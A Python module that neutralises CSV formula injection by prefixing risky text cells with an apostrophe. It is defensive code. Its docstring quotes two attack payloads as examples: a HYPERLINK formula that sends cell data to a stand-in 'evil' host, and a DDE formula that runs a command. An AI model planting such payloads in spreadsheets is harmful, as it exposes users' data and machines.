"""Formula-safe CSV: every CSV the project writes goes through this module.

A spreadsheet that opens a CSV takes a cell beginning with =, +, -, @, tab or carriage return
for a formula (OWASP, "CSV injection"): a criterion typed as =HYPERLINK("http://evil/?"&A1)
would become a live link, =cmd|' /C calc'!A0 a command. Such a cell is written with an
apostrophe in front, which spreadsheets read as "this cell is text"; the csv writer quotes the
cell as usual. XLSX and JSON exports need none of this: their cells are typed.

Only text is neutralised. A number our code writes (int, float, Decimal: a count, a negative
emission change such as -120.5) is a value, not text, and is written as is, so it stays a
number in the spreadsheet. Everything else (str, a date, a lazy translation) is written as its
text and neutralised: a number formatted into a string before it gets here ("-0.5") gets the
apostrophe too, so hand numbers over as numbers.
"""

import csv
import numbers
import re
from collections.abc import Iterable
from typing import Literal, Protocol, TypedDict, Unpack

# What a spreadsheet reads as the start of a formula (OWASP's list).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_FIRST = frozenset(FORMULA_PREFIXES)
# A cell as safe_cell wrote it: the apostrophe, then a formula's first character. Imports take
# it off, so a file exported, edited and imported again keeps its texts as they were typed.
NEUTRALISED = re.compile(r"^'(?=[=+\-@\t\r])")


class _Writable[Written](Protocol):
    def write(self, value: str, /) -> Written: ...


class FormatOptions(TypedDict, total=False):
    """csv.writer's formatting parameters (the csv module's "fmtparams")."""

    delimiter: str
    quotechar: str | None
    escapechar: str | None
    doublequote: bool
    skipinitialspace: bool
    lineterminator: str
    quoting: Literal[0, 1, 2, 3, 4, 5]
    strict: bool


def safe_cell(value: object) -> object:
    """value as a CSV cell that no spreadsheet runs: None is empty, numbers stay numbers, text
    that a spreadsheet would take for a formula gets a leading apostrophe."""
    # Plain str first: it is nearly every cell of a large export.
    if type(value) is str:
        return "'" + value if value[:1] in _FORMULA_FIRST else value
    if value is None:
        return ""
    if isinstance(value, numbers.Number):
        return value
    return safe_cell(str(value))


def safe_row(values: Iterable[object]) -> list[object]:
    """Every cell of a row through safe_cell."""
    # safe_cell's plain-str case inlined: a 100,000-row export has two million cells.
    return [
        ("'" + value if value[:1] in _FORMULA_FIRST else value)
        if type(value) is str
        else safe_cell(value)
        for value in values
    ]


class SafeWriter[Written]:
    """csv.writer's interface (writerow, writerows, dialect); every row goes through safe_row.
    writerow returns what the file's write returned, as csv.writer does."""

    def __init__(
        self,
        file: _Writable[Written],
        dialect: str | csv.Dialect = "excel",
        **options: Unpack[FormatOptions],
    ) -> None:
        self._writer = csv.writer(file, dialect, **options)
        self.dialect = self._writer.dialect

    def writerow(self, row: Iterable[object]) -> Written:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        self._writer.writerows(map(safe_row, rows))


def writer[Written](
    file: _Writable[Written],
    dialect: str | csv.Dialect = "excel",
    **options: Unpack[FormatOptions],
) -> SafeWriter[Written]:
    """csv.writer(file, dialect, **options) whose cells are formula-safe."""
    return SafeWriter(file, dialect, **options)
